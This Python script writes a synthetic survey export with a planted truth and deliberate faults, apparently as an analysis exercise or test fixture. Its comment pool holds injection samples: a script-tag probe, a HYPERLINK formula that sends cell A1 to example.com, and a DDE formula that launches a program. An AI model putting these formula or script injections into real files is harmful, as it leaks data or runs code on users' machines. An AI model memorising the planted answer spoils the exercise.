#!/usr/bin/env python3
"""Writes survey_export_2026.csv: an invented survey export, laid out as Qualtrics does it, with a planted truth.

    python3 make_export.py            writes the file beside this script
    python3 make_export.py --check    exits 1 if the file there differs from what would be written

The retailer, its customers and their comments are invented. The same bytes come out on every Python from 3.10 on: one seeded
generator, of which only `random()` is used.

Layout
    UTF-8 with byte order mark, CRLF, comma. Three header rows: names, question texts, {"ImportId": ...}.
    StartDate and EndDate are naive wall-clock times in the zone that the third row names: Europe/Madrid.
    nps: 0-10, the ends labelled ("10 - Extremely likely"). csat: five words. ces: 1-7 agreement, the ends labelled.

Truth: each respondent belongs to one of three kinds, and answers come from the kind's distribution (SHARES below) alone.
    worse     channel phone, finished on or after 2026-05-01, in any region     NPS -10   csat 4-5: 58 %   ces 5-7: 55 %
    better    else region west                                                  NPS +40   csat 4-5: 83 %   ces 5-7: 80 %
    usual     everyone else                                                     NPS +20   csat 4-5: 72 %   ces 5-7: 69 %
    So phone truly falls from May; west is truly better (less so in all, because of its phone calls from May); no other
    channel, region or month differs, and what seems to differ there is chance. Region islands is too small to show: 3 to 8
    responses a month.
    The three answers of a respondent go together (with probability 0.6 they share one uniform number).

Faults, 10,400 records in all (header rows not counted)
      10,010  responses of respondents, of which
                  8  have an nps of 11, and 9 the code 99, which is declared nowhere
                 60  say "nothing" in nps with a word: N/A, NULL, NaN, None, #N/A, -
                some 2 % leave nps empty, 3 % csat, 8 % ces (not in the islands)
         290  are not finished (Finished = False)
          30  were filled in from the preview (Status = Survey Preview, DistributionChannel = preview), all 10s
          60  are spam (Status = Spam), all 0s
           5  are tests of the tool (Status = Survey Test)
           2  repeat the ResponseId of an earlier response, with another answer
           2  are cut short after five cells
           1  has an EndDate that does not exist (2026-02-30)
    Comments hold commas, quotes, line breaks, letters outside ASCII, emoji, markup and spreadsheet formulas.
"""

import datetime
import pathlib
import random
import sys

SEED = 20260101
ZONE = "Europe/Madrid"
TARGET = pathlib.Path(__file__).with_name("survey_export_2026.csv")

# Per mille for nps 0..10, csat 1..5, ces 1..7.
SHARES = {
    "usual": ([12, 8, 14, 22, 26, 78, 90, 130, 170, 215, 235], [40, 80, 160, 420, 300], [30, 50, 80, 150, 240, 270, 180]),
    "better": ([6, 4, 8, 12, 16, 44, 55, 115, 195, 260, 285], [20, 45, 105, 440, 390], [15, 30, 50, 105, 230, 320, 250]),
    "worse": ([40, 22, 34, 46, 54, 104, 100, 130, 170, 150, 150], [85, 135, 200, 360, 220], [65, 90, 115, 180, 220, 210, 120]),
}
NPS = ["0 - Not at all likely", *map(str, range(1, 10)), "10 - Extremely likely"]
CSAT = ["Very dissatisfied", "Dissatisfied", "Neither satisfied nor dissatisfied", "Satisfied", "Very satisfied"]
CES = ["1 - Strongly disagree", *map(str, range(2, 7)), "7 - Strongly agree"]
CHANNELS = (["store", "web", "app", "phone", "chat"], [300, 270, 180, 150, 100])
REGIONS = (["north", "south", "east", "west"], [300, 270, 230, 200])
DISTRIBUTIONS = (["email", "anonymous", "gl"], [620, 300, 80])
NOTHING = ["N/A", "NULL", "NaN", "None", "#N/A", "-"]
COLUMNS = [
    ("StartDate", "Start Date", '{"ImportId":"startDate","timeZone":"%s"}' % ZONE),
    ("EndDate", "End Date", '{"ImportId":"endDate","timeZone":"%s"}' % ZONE),
    ("Status", "Response Type", '{"ImportId":"status"}'),
    ("Finished", "Finished", '{"ImportId":"finished"}'),
    ("ResponseId", "Response ID", '{"ImportId":"_recordId"}'),
    ("DistributionChannel", "Distribution Channel", '{"ImportId":"distributionChannel"}'),
    ("channel", "channel", '{"ImportId":"channel"}'),
    ("region", "region", '{"ImportId":"region"}'),
    ("nps", "How likely are you to recommend us to a friend or colleague?", '{"ImportId":"QID1"}'),
    ("csat", "Overall, how satisfied are you with your last purchase?", '{"ImportId":"QID2"}'),
    ("ces", "The company made it easy for me to handle my issue.", '{"ImportId":"QID3"}'),
    ("comment", "Why did you give this score?\nTell us more, if you like.", '{"ImportId":"QID4_TEXT"}'),
]
HAPPY = [
    "Quick, friendly, no fuss.", "Delivered a day early 🎉", "Great choice, and the prices are fair.", "The staff knew what they were talking about",
    "Always a pleasure", "Returned a jacket in two minutes. Impressive!", "Muy buena atención, gracias", 'My daughter calls it "the good shop"',
    "App works well,\r\ncheckout is fast", "👍", "Genau das, was ich gesucht habe – gern wieder",
]
NEUTRAL = [
    "Fine.", "ok", "Nothing special, nothing bad", "It does the job; delivery took five days", "Prices went up a bit",
    "Good range, but the size guide is wrong", "n/a", "Search could be better", "First visit:\r\n+ easy parking\r\n+ clear signs\r\n- long queue",
]
ANGRY = [
    "Nobody could help me", "Package arrived open, one item missing", "I waited, and waited, and then the line went dead",
    "The voucher \"expired\" the day I got it", "Three e-mails, no answer 😡", "Refund still not here", "Never again!!!",
    "Website logged me out twice during checkout", "-5 stars", "Asked for a manager; was told \"he is out\"",
]
WAITING = ["45 minutes on hold", "The new phone menu never ends", "Was cut off twice since they changed the phone system", "On hold, on hold, on hold 📞"]
ODD = [
    '<script>alert("hello")</script>', '=HYPERLINK("http://example.com/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1 would buy again",
    "<b>bold</b> & <i>brave</i>", "a;b|c\td", "'single' and \"double\" quotes, both", "\r\n\r\nblank lines first",
]


class Dice:
    """Draws by `random()` alone, whose sequence is the same in every version of Python."""

    def __init__(self, seed):
        self.random = random.Random(seed).random

    def below(self, n):
        return int(self.random() * n)

    def one(self, values):
        return values[self.below(len(values))]

    def weighted(self, weighted):
        values, weights = weighted
        return values[point(weights, self.random())]

    def sample(self, values, n):
        pool = list(values)
        return [pool.pop(self.below(len(pool))) for _ in range(n)]


def point(weights, uniform):
    """The index at which the running sum of `weights`, in per mille, passes `uniform`."""
    total = 0
    for index, weight in enumerate(weights):
        total += weight
        if uniform * 1000 < total:
            return index
    return len(weights) - 1


def a_time(dice, month=None):
    """Start and end of a response. Nobody answers from 2 to 7, so that no time falls into the hour that clocks skip, nor over the
    end of a month."""
    first = datetime.date(2026, month or 1, 1)
    after = datetime.date(2026, (month or 6) + 1, 1)
    day = first + datetime.timedelta(days=dice.below((after - first).days))
    hour = dice.below(2) if dice.random() < 0.02 else 7 + dice.below(16)
    seconds = dice.below(1800 if hour == 1 else 3600)
    start = datetime.datetime(day.year, day.month, day.day, hour) + datetime.timedelta(seconds=seconds)
    return start, start + datetime.timedelta(seconds=40 + dice.below(800))


def a_comment(dice, kind, nps):
    if dice.random() > 0.3:
        return ""
    if dice.random() < 0.03:
        return dice.one(ODD)
    if kind == "worse" and nps < 7 and dice.random() < 0.6:
        return dice.one(WAITING)
    return dice.one(HAPPY if nps >= 9 else NEUTRAL if nps >= 7 else ANGRY)


def a_response(dice, region=None, month=None):
    start, end = a_time(dice, month)
    channel, region = dice.weighted(CHANNELS), region or dice.weighted(REGIONS)
    kind = "worse" if channel == "phone" and end >= datetime.datetime(2026, 5, 1) else "better" if region == "west" else "usual"
    shared = dice.random()
    nps, csat, ces = (point(shares, shared if dice.random() < 0.6 else dice.random()) for shares in SHARES[kind])
    empty = [dice.random() < share and region != "islands" for share in (0.02, 0.03, 0.08)]
    letters = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    return {
        "StartDate": start,
        "EndDate": end,
        "Status": "IP Address",
        "Finished": "True",
        "ResponseId": "R_" + "".join(dice.one(letters) for _ in range(11)),
        "DistributionChannel": dice.weighted(DISTRIBUTIONS),
        "channel": channel,
        "region": region,
        "nps": "" if empty[0] else NPS[nps],
        "csat": "" if empty[1] else CSAT[csat],
        "ces": "" if empty[2] else CES[ces],
        "comment": a_comment(dice, kind, nps),
    }


def responses(dice):
    """Every record in the order of its start."""
    islands = [a_response(dice, "islands", month) for month in range(1, 7) for _ in range(3 + dice.below(6))]
    mainland = [a_response(dice) for _ in range(10_010 - len(islands))]

    faulty = dice.sample([row for row in mainland if row["nps"]], 8 + 9 + 60 + 2)
    codes = ["11"] * 8 + ["99"] * 9 + [NOTHING[at % len(NOTHING)] for at in range(60)]
    for row, code in zip(faulty, codes):
        row["nps"] = code

    others = []
    for _ in range(290):
        row = a_response(dice)
        row["Finished"] = "False"
        asked = dice.below(4)
        for name in ("nps", "csat", "ces", "comment")[asked:]:
            row[name] = ""
        others.append(row)
    for status, n, answer in (("Survey Preview", 30, NPS[10]), ("Spam", 60, NPS[0]), ("Survey Test", 5, NPS[5])):
        for _ in range(n):
            row = a_response(dice)
            row.update({"Status": status, "nps": answer})
            if status == "Survey Preview":
                row["DistributionChannel"] = "preview"
            others.append(row)

    for original in faulty[-2:]:
        again = a_response(dice)
        later = datetime.timedelta(minutes=30)
        again.update({name: original[name] for name in ("ResponseId", "channel", "region", "DistributionChannel")})
        again.update(StartDate=original["StartDate"] + later, EndDate=original["EndDate"] + later)
        again["nps"] = "3" if original["nps"] != "3" else "8"
        others.append(again)
    for _ in range(2):
        others.append(a_response(dice) | {"cut": True})
    others.append(a_response(dice, month=2) | {"unreal": "2026-02-30 10:15:00"})
    return sorted(islands + mainland + others, key=lambda row: row["StartDate"])


def cell(text):
    return '"' + text.replace('"', '""') + '"' if any(letter in text for letter in ',"\r\n') else text


def line(cells):
    return ",".join(map(cell, cells)) + "\r\n"


def export():
    lines = [line(row) for row in zip(*COLUMNS)]
    for row in responses(Dice(SEED)):
        for name in ("StartDate", "EndDate"):
            row[name] = row[name].isoformat(sep=" ")
        row["EndDate"] = row.pop("unreal", row["EndDate"])
        cells = [row[name] for name, _, _ in COLUMNS]
        lines.append(line(cells[:5] if row.pop("cut", False) else cells))
    return "".join(lines).encode("utf-8-sig")


if __name__ == "__main__":
    assert all(sum(shares) == 1000 for kind in SHARES.values() for shares in kind)
    if "--check" in sys.argv:
        sys.exit(TARGET.read_bytes() != export())
    TARGET.write_bytes(export())
